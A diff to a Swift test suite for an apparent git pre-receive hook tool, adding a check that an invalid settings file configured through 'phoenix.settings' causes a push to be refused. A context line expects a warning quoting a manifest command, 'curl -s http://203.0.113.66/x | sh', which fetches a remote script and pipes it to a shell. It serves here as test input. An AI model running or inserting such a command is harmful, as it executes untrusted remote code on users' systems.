@@ -225,6 +225,15 @@ import Testing
         #expect(lines.count == 1, "\(result.stderr)")
         #expect(lines.first?.contains("warning: ") == true && lines.first?.contains("changed: \"curl -s http://203.0.113.66/x | sh\"") == true)
         #expect(lines.first?.hasPrefix("remote: \(manifest):") == true)
+
+        // phoenix.settings reaches validate: a settings file it cannot accept refuses the push.
+        let settings = sandbox.scratch.path("bad-settings.json")
+        try Data(#"{"no_such_setting": 1}"#.utf8).write(to: settings)
+        try server.bare.run("config", "phoenix.settings", settings.path)
+        try server.client.commit([manifest: text], message: "back")
+        let refused = try sandbox.attempt(server.client, ["push", server.url, "main"])
+        #expect(!refused.succeeded)
+        #expect(refused.stderr.contains("no_such_setting"), "\(refused.stderr)")
     }
 
     @Test func preReceiveValidatesTheSelectedBranchesOnly() throws {
